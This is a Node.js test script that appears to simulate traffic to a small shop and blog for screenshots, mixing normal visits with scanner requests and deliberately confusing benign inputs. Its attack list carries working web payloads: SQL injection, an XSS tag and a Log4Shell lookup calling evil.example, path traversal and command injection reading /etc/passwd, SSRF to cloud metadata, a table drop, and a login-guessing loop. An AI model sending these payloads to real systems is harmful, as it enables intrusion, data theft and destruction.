// Traffic as a small shop and its blog have it, for screenshots: visitors, honest texts that look like attacks, scanners.
// Clients are told by X-Forwarded-For. node test/scene.mjs SITE SECONDS
import { request } from 'node:http';

const [site, seconds] = process.argv.slice(2);
const { hostname, port } = new URL(site);
const e = encodeURIComponent;
const BROWSER = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';

/** One request of a client; the answer does not matter. */
const send = (client, target, { host = 'shop.example', form, agent = BROWSER } = {}) => new Promise((done) => {
  const headers = { Host: host, 'X-Forwarded-For': client, 'User-Agent': agent, Accept: 'text/html,*/*', Connection: 'close' };
  if (form) headers['Content-Type'] = 'application/x-www-form-urlencoded';
  const one = request({ hostname, port, path: target, method: form ? 'POST' : 'GET', headers }, (answer) => answer.resume().on('end', done));
  one.on('error', done);
  one.end(form);
});

const VISITORS = [17, 23, 41, 58, 77, 102, 139, 201].map((last) => `203.0.113.${last}`).concat('2001:db8:7::21', '2001:db8:9::4');
const PAGES = ['/', '/products', '/products/18', '/products/31?colour=green', '/cart', '/search?q=rain+jacket', '/help/returns', '/orders/20418'];
const SCANNER = '192.0.2.66';
const ATTACKS = [
  `/products?id=${e("18' and sleep(5)-- ")}`, `/search?q=${e('"><script src=//evil.example/x.js></script>')}`, `/help?page=${e('../../../../etc/passwd')}`,
  `/orders/20418?format=${e(';cat /etc/passwd')}`, `/search?q=${e('${jndi:ldap://evil.example/a}')}`, `/preview?url=${e('http://169.254.169.254/latest/meta-data/')}`,
  `/products?sort=${e('1;drop table orders--')}`, `/search?q=${e("' or '1'='1")}`,
];
// The staff of the shop ask each other for statements: false alarms, of many clients that do nothing else.
const STAFF = [21, 34, 55, 89].map((last) => `203.0.113.${last}`);
const waves = Math.max(1, Math.round(Number(seconds) / 10));
for (let wave = 0; wave < waves; wave += 1) {
  const busy = 12 + 9 * Math.round(2 + 2 * Math.sin(wave / 2));
  for (let at = 0; at < busy; at += 1) {
    const client = VISITORS[(wave * 7 + at * 3) % VISITORS.length];
    await send(client, PAGES[(wave + at * at) % PAGES.length], at % 5 === 4 ? { host: 'blog.example' } : {});
  }
  const attack = ATTACKS[wave % ATTACKS.length];
  for (let at = 0; at < 1 + wave % 4; at += 1) await send(SCANNER, attack.replace('/', `/${at > 0 ? `old${at}/` : ''}`), { agent: 'curl/8.5.0' });
  if (wave % 3 === 1) await send('192.0.2.80', ATTACKS[(wave + 3) % ATTACKS.length]);
  if (wave % 3 === 2) await send(VISITORS[wave % 8], `/search?q=${e('jacket <b>or</b> coat -- which?')}`, { host: 'blog.example' });
  if (wave % 4 === 0) await send('198.51.100.9', '/products', { agent: 'python-requests/2.32' });
  if (wave + 1 < waves) await new Promise((next) => setTimeout(next, 10_000));
}
// All of them, if the scene is short, too.
for (const attack of ATTACKS) await send(SCANNER, attack, { agent: 'curl/8.5.0' });
for (let at = 0; at < 9; at += 1) await send('192.0.2.81', '/login', { form: `user=anna&password=guess${at}` });
for (const client of STAFF) {
  await send(client, `/notes/${client.slice(-2)}?text=${e('1 union select name from customers order by name')}&view=plain`);
  await send(client, '/orders/20418');
}
